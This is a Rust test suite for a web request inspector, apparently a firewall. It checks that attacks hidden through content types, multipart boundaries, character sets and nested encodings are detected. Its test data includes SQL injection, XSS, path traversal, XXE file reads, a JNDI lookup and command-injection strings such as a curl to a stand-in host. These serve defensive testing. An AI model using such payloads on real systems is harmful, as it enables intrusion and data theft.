//! Attacks that hide in how a request is written, and requests that are written alike and hide nothing.

use std::sync::LazyLock;

use proptest::prelude::*;

use crate::families_tests::report;
use crate::foreign::Alphabet;
use crate::inspector::Inspector;
use crate::report::{Report, Unread};
use crate::request::Header;

const FORM: &str = "application/x-www-form-urlencoded";

fn said(name: &str, value: &str, body: &[u8]) -> Report {
    report(&Inspector::new(), "/", &[Header { name, value: value.as_bytes() }], body)
}

#[track_caller]
fn check(kind: &str, body: &[u8], is_attack: bool) {
    let report = said("Content-Type", kind, body);
    let head = String::from_utf8_lossy(&body[..body.len().min(400)]);
    assert_eq!(report.is_attack(), is_attack, "{kind}: {head}: {report:?}");
}

#[test]
fn only_the_host_of_an_address_of_the_web_is_left_out() {
    for (address, is_attack) in [
        ("${jndi:ldap://e/a}", true),
        ("https://${jndi:ldap://e/a}", true),
        ("https://1' union select user,2 from users-- /x", true),
        ("https://a.example/<script>alert(1)</script>", true),
        ("https://a.example:8443/x?y=z", false),
        ("HTTPS://[2001:db8::1]:8443/", false),
        ("https://m\u{fc}nchen.example/select", false),
        ("android-app://com.example.app/", false),
        ("about:blank", false),
    ] {
        let report = said("Referer", address, b"");
        assert_eq!(report.is_attack(), is_attack, "{address}: {report:?}");
    }
}

#[test]
fn nothing_hides_behind_many_values() {
    const ATTACKS: [&str; 3] = ["' or 1=1-- ", "<script>alert(1)</script>", "../../../etc/passwd"];
    for attack in ATTACKS {
        check(FORM, format!("{}q={attack}", "&".repeat(20_001)).as_bytes(), true);
        check(FORM, format!("{}q={attack}", "a=b&".repeat(20_001)).as_bytes(), true);
        check(FORM, format!("{}q={attack}{}", "a=b&".repeat(20_001), "&a=b".repeat(20_001)).as_bytes(), true);
        check("application/json", format!("[{}\"{attack}\"]", "\"a\",".repeat(20_001)).as_bytes(), true);
        let cookies = format!("{}q={attack}", "a=b; ".repeat(20_001));
        assert!(said("Cookie", &cookies, b"").is_attack());
    }
    check(FORM, format!("{}q=it's", "a=b&".repeat(30_000)).as_bytes(), false);
    check("application/json", format!("[{}\"it's\"]", "\"a\",".repeat(30_000)).as_bytes(), false);
}

/// Types of content under which servers read a form, and look-alikes of them.
#[test]
fn a_type_is_read_as_lenient_servers_read_it() {
    let form = b"a=1&b=%27+or+1%3D1--+";
    for kind in [FORM, "Application/X-WWW-Form-Urlencoded; charset=x", &format!("{FORM}, x"), &format!(" {FORM} x")] {
        check(kind, form, true);
        check(kind, b"a=1&b=it%27s+on", false);
    }
    let json = br#"{"a":"' or 1=1-- "}"#;
    for kind in [
        "application/json, x",
        "application/x-amz-json-1.1",
        "application/octet-stream",
        "image/png",
        "application/x-foo",
        "application/graphql",
        "application/yaml",
        "application/javascript",
        "text/x-anything",
        "x",
    ] {
        check(kind, json, true);
        check(kind, b"\xef\xbb\xbf{\"a\":\"' or 1=1-- \"}", true);
        check(kind, br#"{"a":"it's 1 or 2"}"#, false);
    }
    check("application/yaml", b"a: 1\nb: ' or 1=1-- ", true);
    check("application/graphql", b"{ user(id: \"1' or '1'='1\") { id } }", true);
    check("application/x-foo", b"<a>' or 1=1-- </a>", true);
    check("application/octet-stream", form, true);
    check("application/json", form, true);
    check("application/json", b"<a>' or 1=1-- </a>", true);
    check("application/yaml", b"on: push\nsteps:\n  - run: cargo test\n  - name: it's", false);
    check("application/javascript", b"document.cookie = 'a'; eval('1'); alert(1)", false);
}

#[test]
fn what_is_not_text_is_not_read_as_text() {
    let mut noise = 7_u64;
    let mut bytes = vec![0; 64 << 10];
    for it in &mut bytes {
        noise = noise.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1);
        *it = (noise >> 56) as u8;
    }
    check("image/png", &[b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR", &bytes[..]].concat(), false);
    check("application/octet-stream", &bytes, false);
    check("application/pdf", &[&b"%PDF-1.4\n1 0 obj << /Type /Page >>\n".repeat(40)[..], &bytes].concat(), false);
}

const PARTS: &str = "multipart/form-data; boundary=BB";

/// A body of one part: its head, its content.
fn part(head: &str, content: &str) -> String {
    format!("--BB\r\n{head}\r\n\r\n{content}\r\n--BB--\r\n")
}

#[test]
fn a_part_is_a_file_only_by_its_own_disposition() {
    let attack = "' or 1=1-- ";
    for head in [
        "Content-Disposition: form-data; name=\"q\"",
        "content-disposition:form-data;name=q",
        "Content-Disposition: form-data; name=\"q\"; filename=\"\"",
        "Content-Disposition: form-data; name=\"q; filename=x\"",
        "Content-Disposition: form-data; name=\"q\"; xfilename=\"x\"",
        "Content-Disposition: form-data; name=\"q\"\r\nContent-Type: text/plain; filename=\"x\"",
        "Content-Type: text/plain; filename=\"x\"\r\nContent-Disposition: form-data;\r\n name=\"q\"",
        "Content-Disposition: form-data; name=\"q\"; filename=\"x\"\r\nContent-Disposition: form-data; name=\"q\"",
        "X-Other: 1",
        "Content-Disposition: form-data; name=\"q\"; filename =\"x\"",
        "Content-Disposition: form-data; name=\"q\" filename=\"x\"",
        "Content-Disposition: form-data; name=\"a\\\\\"; filename=\"x\"; name=\"q\"",
        "Content-Disposition: form-data; name=\"a\\\"; filename=\"x\"; name=\"q\"",
        "Content-Disposition: form-data; name=\"q\";\r\n filename=\"x\"",
    ] {
        check(PARTS, part(head, attack).as_bytes(), true);
        check(PARTS, part(head, "it's 1 or 2").as_bytes(), false);
        check(PARTS, part(head, &format!("\x01\x02\x03\x04{attack}")).as_bytes(), true);
        check(PARTS, part(head, &format!("{}{attack}", "\x01".repeat(9000))).as_bytes(), true);
    }
    for head in [
        "Content-Disposition: form-data; name=\"q\"; filename=\"notes.txt\"",
        "Content-Disposition: form-data;name=\"q\" ; filename=\"no\\\"tes\\\".txt\";",
        "Content-Type: text/plain\r\nCONTENT-DISPOSITION: form-data; filename=notes.txt; name=q",
    ] {
        check(PARTS, part(head, attack).as_bytes(), false);
    }
}

#[test]
fn a_boundary_is_the_first_parameter_of_that_name() {
    let body = part("Content-Disposition: form-data; name=\"q\"", "' or 1=1-- ");
    for kind in [
        "multipart/form-data; boundary=BB",
        "multipart/form-data; boundary=\"BB\"",
        "multipart/form-data, boundary=BB",
        "multipart/form-data; xboundary=AA; boundary=BB",
        "multipart/form-data; a=\"; boundary=AA\"; boundary=BB",
        "multipart/form-data; boundary=BB; boundary=AA",
        "multipart/form-data; Boundary = BB ; charset=utf-8",
        "multipart/x-anything; boundary=BB",
        "multipart/form-data",
        "multipart/form-data; boundary=AA",
    ] {
        check(kind, body.as_bytes(), true);
    }
}

#[test]
fn a_fence_is_a_line_of_its_own() {
    let field = |name: &str, content: &str| {
        format!("--BB\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n{content}\r\n")
    };
    let attack = field("q", "' or 1=1-- ");
    for body in [
        format!("--BB--\r\n{attack}--BB--"),
        format!("{}{attack}--BB--", field("a", "x--BB--")),
        format!("{}{attack}--BB--", field("a", "x\r\n--BB--x\r\n")),
        format!("--BBx\r\n{attack}--BB--"),
        attack.replace("\r\n", "\n"),
        attack.replacen("--BB", "--BB \t", 1),
        format!("{}{attack}--BB--", field("a", "b").repeat(300)),
    ] {
        check(PARTS, body.as_bytes(), true);
    }
    // What looks like a head within a content is content.
    check(PARTS, field("a", "x--BB\r\nContent-Disposition: form-data; name=\"b\"\r\n\r\nit's").as_bytes(), false);
    check(PARTS, format!("{}--BB--", field("a", "it's").repeat(300)).as_bytes(), false);
}

#[test]
fn documents_are_read_in_utf_16_and_utf_32() {
    let utf_16 = |text: &str, order: fn(u16) -> [u8; 2]| text.encode_utf16().flat_map(order).collect::<Vec<_>>();
    let utf_32 =
        |text: &str, order: fn(u32) -> [u8; 4]| text.chars().flat_map(|it| order(u32::from(it))).collect::<Vec<_>>();
    for (kind, text, is_attack) in [
        ("application/json", r#"{"a":"' or 1=1-- "}"#, true),
        ("application/json", r#"{"a":"it's 1 or 2"}"#, false),
        ("application/xml", "<?xml version='1.0' encoding='utf-16'?><a>' or 1=1-- </a>", true),
        ("text/xml", "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///x'>]><a>&b;</a>", true),
        ("text/xml", "<a>it's 1 or 2</a>", false),
    ] {
        for mark in ["", "\u{feff}"] {
            let text = format!("{mark}{text}");
            check(kind, text.as_bytes(), is_attack);
            check(kind, &utf_16(&text, u16::to_le_bytes), is_attack);
            check(kind, &utf_16(&text, u16::to_be_bytes), is_attack);
            check(kind, &utf_32(&text, u32::to_le_bytes), is_attack);
            check(kind, &utf_32(&text, u32::to_be_bytes), is_attack);
        }
    }
}

#[test]
fn comments_and_sections_do_not_cut_a_text_of_xml() {
    for attack in ["1' un<!-- x -->ion sel<![CDATA[ect]]> 1,2-- ", "<![CDATA[<scr]]><![CDATA[ipt>alert(1)</script>]]>"]
    {
        check("text/xml", format!("<a>{attack}</a>").as_bytes(), true);
    }
    check("text/xml", b"<a href=\"http://x.example/' or 1=1-- \">x</a>", true);
    check("text/xml", b"<a b=\"<svg onload='alert(1)'>\"/>", true);
    check("text/xml", b"<a><!-- it's -->it's <![CDATA[Tom & Jerry's]]> <b c=\"it's\" d='1'/>or 1</a>", false);
}

#[test]
fn commands_are_found_in_long_texts_and_scripts_pass() {
    let words = "the quick brown fox jumps over the lazy dog and goes home ".repeat(9);
    for padding in ["a".repeat(500), words.clone(), format!("{words}\n{words}\n{words}\n{words}\nx")] {
        for attack in ["; cat /etc/hosts", "|whoami", "$(curl http://x.example)", "&& ping -c 3 10.0.0.1"] {
            let text = format!("{padding}{attack}");
            check("application/json", format!("{{\"a\":\"{}\"}}", text.replace('\n', "\\n")).as_bytes(), true);
            check(PARTS, part("Content-Disposition: form-data; name=\"q\"", &text).as_bytes(), true);
            check("text/plain", text.as_bytes(), true);
        }
    }
    let script = "#!/bin/sh\ncat list.txt | sort -u | wc -l\nif test -f a; then rm -f a; fi\n    ls -l | grep x\n$ ps aux | grep y\n";
    let page =
        format!("Call the script below.\n{script}\nUse `grep -r foo` to find it; then `ls -l`, and {words}.\n{words}");
    check("text/plain", page.as_bytes(), false);
    check(PARTS, part("Content-Disposition: form-data; name=\"q\"", &page).as_bytes(), false);
}

#[test]
fn a_boundary_is_found_however_it_is_written() {
    let body = part("Content-Disposition: form-data; name=\"q\"", "' or 1=1-- ").replace("BB", "real");
    let decoy = format!("--decoy\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nb\r\n--decoy--\r\n{body}");
    for kind in [
        "multipart/form-data; boundary=decoy; boundary=real",
        "multipart/form-data; boundary=real; boundary=decoy",
        "multipart/form-data; boundary=decoy; boundary*=utf-8''real",
        "multipart/form-data; boundary=decoy; boundary*=utf-8'en'%72eal",
        "multipart/form-data; boundary=decoy; boundary*0=re; boundary*1=al",
        "multipart/form-data; boundary*0*=utf-8''%72e; boundary*1=\"al\"; boundary=decoy",
    ] {
        check(kind, decoy.as_bytes(), true);
        check(kind, decoy.replace("' or 1=1-- ", "it's on").as_bytes(), false);
    }
}

/// A text in code page 037, letter by letter.
fn ebcdic(text: &str) -> Vec<u8> {
    let alphabet = Alphabet::of_name(b"ibm037");
    let code = |it: u8| (0..=255).find(|code| alphabet.to_utf8(&[*code]).as_deref() == Some(&[it])).unwrap();
    text.bytes().map(code).collect()
}

fn percent(bytes: &[u8]) -> String {
    bytes.iter().map(|it| format!("%{it:02x}")).collect()
}

#[test]
fn bodies_in_other_alphabets_are_read_in_them() {
    let kind = |charset: &str| format!("{FORM}; charset={charset}");
    for (text, is_attack) in [("' or 1=1-- ", true), ("1 union select a,b from c", true), ("it's on", false)] {
        let whole = [&ebcdic("a=1&q=")[..], &ebcdic(text)].concat();
        let piece = format!("a=1&{}={}", percent(&ebcdic("q")), percent(&ebcdic(text)));
        for name in ["ibm037", "IBM037", "cp037", "ibm500", "utf-8; charset=ibm037"] {
            check(&kind(name), &whole, is_attack);
            check(&kind(name), piece.as_bytes(), is_attack);
        }
        check("text/xml", &ebcdic(&format!("<?xml version='1.0' encoding='ibm037'?><a>{text}</a>")), is_attack);
        let target = format!("/?q={}", percent(&ebcdic(text)));
        let headers = [Header { name: "content-type", value: b"text/plain; charset=ibm037" }];
        assert_eq!(report(&Inspector::new(), &target, &headers, b"x").is_attack(), is_attack);
    }
    for (text, is_attack) in [("+ADw-script+AD4-alert(1)+ADw-/script+AD4-", true), ("1+-1 +AOQ-", false)] {
        check("text/plain; charset=utf-7", text.as_bytes(), is_attack);
        check(&kind("utf-7"), format!("q={}", percent(text.as_bytes())).as_bytes(), is_attack);
        check("application/json; charset=utf-7", format!("{{\"a\":\"{text}\"}}").as_bytes(), is_attack);
        check(
            PARTS,
            part("Content-Disposition: form-data; name=q\r\nContent-Type: text/plain; charset=utf-7", text).as_bytes(),
            is_attack,
        );
    }
    let entity = "<?xml version='1.0' encoding='UTF-7'?>+ADwAIQ-DOCTYPE a +AFs-+ADwAIQ-ENTITY b SYSTEM 'file:///etc/passwd'+AD4-+AF0-+AD4-<a/>";
    check("text/xml", entity.as_bytes(), true);
    check("text/xml", b"<?xml version='1.0' encoding='UTF-7'?><a>1 +- 2</a>", false);
}

#[test]
fn a_part_is_read_as_its_own_head_says() {
    let quoted = "Content-Disposition: form-data; name=q\r\nContent-Transfer-Encoding: Quoted-Printable";
    check(PARTS, part(quoted, "=27 or=\r\n 1=3D1-- ").as_bytes(), true);
    check(PARTS, part(quoted, "it=27s on=\r\n sale").as_bytes(), false);
    let base64 = "Content-Disposition: form-data; name=q\r\nContent-Transfer-Encoding: base64";
    check(PARTS, part(base64, "JyBvciAxPTEtLSA=").as_bytes(), true);
}

#[test]
fn a_body_that_is_not_read_says_why() {
    let bytes: Vec<u8> = (0..=255).cycle().take(4096).collect();
    let long = vec![b'x'; 300 << 10];
    for (kind, body, expected) in [
        (FORM, &b"a=1"[..], None),
        ("application/json", b"{\"a\":1}", None),
        ("", b"a text", None),
        ("application/pdf", &bytes, Some(Unread::Type)),
        ("application/javascript", b"var a = 1;", Some(Unread::Type)),
        ("text/css", &bytes, Some(Unread::Type)),
        // Whatever it is, it is read as it is.
        ("text/plain", &bytes, None),
        ("", &bytes, None),
        ("text/plain", &long, Some(Unread::Length)),
        ("application/xml", &[b"<a>", &long[..], b"</a>"].concat(), Some(Unread::Length)),
        ("text/plain; charset=ibm273", b"x", Some(Unread::Charset)),
        ("text/plain; charset=iso-2022-kr", b"x", Some(Unread::Charset)),
        ("text/plain; charset=utf-7", b"x", None),
        ("text/plain; charset=ibm037", &ebcdic("a text"), None),
        ("text/xml", b"<?xml version='1.0' encoding='ibm273'?><a/>", Some(Unread::Charset)),
        (
            "multipart/form-data; boundary=BB",
            part("Content-Disposition: form-data; name=f; filename=a.png", "\0\u{1}").as_bytes(),
            None,
        ),
    ] {
        assert_eq!(said("Content-Type", kind, body).unread, expected, "{kind}");
    }
    assert_eq!(said("Content-Encoding", "br", b"a").unread, Some(Unread::Encoding));
    assert_eq!(said("Content-Encoding", "gzip", b"a").unread, Some(Unread::Encoding));
    assert_eq!(said("Content-Encoding", "identity", b"a").unread, None);
}

#[test]
fn pieces_under_one_name_are_read_together() {
    for (query, is_attack) in [
        ("id=1+union/*&id=*/select+a,b/*&id=*/from+users", true),
        ("id=1%20union/*&ID=*/select%20a/*&id=*/from%20users", true),
        ("q=%3Cscr&q=ipt%3Ealert(1)%3C/script%3E", true),
        ("tag=it's&tag=o'brien&tag=1", false),
        ("fields=a,b&fields=c,d&from=1&from=users", false),
        ("q=select&q=from&q=union", false),
        ("f[]=(a)&f[]=(b)", false),
    ] {
        let report = report(&Inspector::new(), &format!("/?{query}"), &[], b"");
        assert_eq!(report.is_attack(), is_attack, "{query}: {report:?}");
        check(FORM, query.as_bytes(), is_attack);
    }
}

#[test]
fn credentials_and_lists_are_read_for_sql() {
    // `admin' or 1=1-- :x`, `x:' or 1=1-- `, `user:it's $(a);b|c`, `o'brien:secret`.
    for (name, value, is_attack) in [
        ("Authorization", "Basic YWRtaW4nIG9yIDE9MS0tIDp4", true),
        ("Authorization", "basic eDonIG9yIDE9MS0tIA==", true),
        ("Proxy-Authorization", "Basic eDonIG9yIDE9MS0tIA==", true),
        ("Authorization", "Basic dXNlcjppdCdzICQoYSk7Ynxj", false),
        ("Authorization", "Basic bydicmllbjpzZWNyZXQ=", false),
        ("Authorization", "Digest username=\"a\", realm=\"b\", nonce=\"c==\", uri=\"/\", response=\"d\"", false),
        ("Authorization", "Digest username=\"a' or 1=1-- \"", true),
        ("Authorization", "Bearer eyJhbGciOiJIUzI1NiJ9.eyJhIjoxfQ.c2ln", false),
        ("Accept-Language", "en' or 1=1-- ", true),
        ("Accept-Language", "en-US,en;q=0.9,de;q=0.8,*;q=0.1", false),
        ("Accept-Language", "../../../../etc/passwd", true),
        ("Accept-Charset", "utf-8' union select 1,2-- ", true),
        ("Accept", "text/html' and sleep(5)-- ", true),
        ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", false),
        ("Accept-Encoding", "gzip' or '1'='1", true),
        ("If-None-Match", "W/\"5f-1' or 1=1-- \"", true),
        ("If-None-Match", "\"5f-1\", W/\"a;b\"", false),
        ("Sec-CH-UA", "\"Chromium\";v=\"120\", \"Not:A-Brand\";v=\"8\", \"Not(A:Brand\";v=\"24\"", false),
        ("Cache-Control", "max-age=0' union select a from b-- ", true),
        ("Content-Disposition", "form-data; name=\"a\"; filename=\"b's.txt\"", false),
    ] {
        let report = said(name, value, b"");
        assert_eq!(report.is_attack(), is_attack, "{name}: {value}: {report:?}");
    }
}

#[test]
fn base64_in_base64_is_undone() {
    // `' or 1=1-- `, `<script>alert(1)</script>` and `it's on, come in`, each twice.
    for (text, is_attack) in [
        ("SnlCdmNpQXhQVEV0TFNBPQ==", true),
        ("UEhOamNtbHdkRDVoYkdWeWRDZ3hLVHd2YzJOeWFYQjBQZz09", true),
        ("YVhRbmN5QnZiaXdnWTI5dFpTQnBiZz09", false),
    ] {
        let report = report(&Inspector::new(), &format!("/?q={text}"), &[], b"");
        assert_eq!(report.is_attack(), is_attack, "{text}: {report:?}");
    }
}

/// Made once: it takes some milliseconds.
static INSPECTOR: LazyLock<Inspector> = LazyLock::new(Inspector::new);

/// What bodies are made of where something may hide.
const PIECES: &[&[u8]] = &[
    b"--BB\r\n",
    b"--BB--",
    b"Content-Disposition: form-data; name=q\r\n",
    b"Content-Transfer-Encoding: quoted-printable\r\n",
    b"Content-Type: a; charset=utf-7\r\n",
    b"\r\n",
    b"+ADw-",
    b"+2D0-",
    b"=4",
    b"&a=%e4",
    b"<?xml encoding='utf-7'?>",
    b"\x1f\x8b\x08\0\0\0\0\0\0\xff",
    b"\x78\x9c",
    b"\x4c\x6f\xa7\x94\x93",
    b"' or 1=1-- ",
];

proptest! {
    /// Whatever a body is and says that it is, it is read to its end or left.
    #[test]
    fn no_body_and_no_type_is_a_panic(
        kind in "(multipart/form-data|text/xml|application/json|application/x-www-form-urlencoded)(; ?(boundary|charset|boundary\\*|boundary\\*0\\*|boundary\\*1)=(\"|)(BB|ibm037|utf-7|utf-8''%42B|%|'|)){0,3}",
        coding in "(gzip|deflate|br|identity|, ?){0,3}",
        pieces in prop::collection::vec(
            prop::sample::select(PIECES),
            0..12,
        ),
        noise in prop::collection::vec(any::<u8>(), 0..40),
    ) {
        let body = [pieces.concat(), noise].concat();
        let headers = [
            Header { name: "content-type", value: kind.as_bytes() },
            Header { name: "content-encoding", value: coding.as_bytes() },
            Header { name: "authorization", value: &[b"Basic ", &body[..]].concat() },
        ];
        report(&INSPECTOR, &format!("/?{kind}&{kind}"), &headers, &body);
    }
}
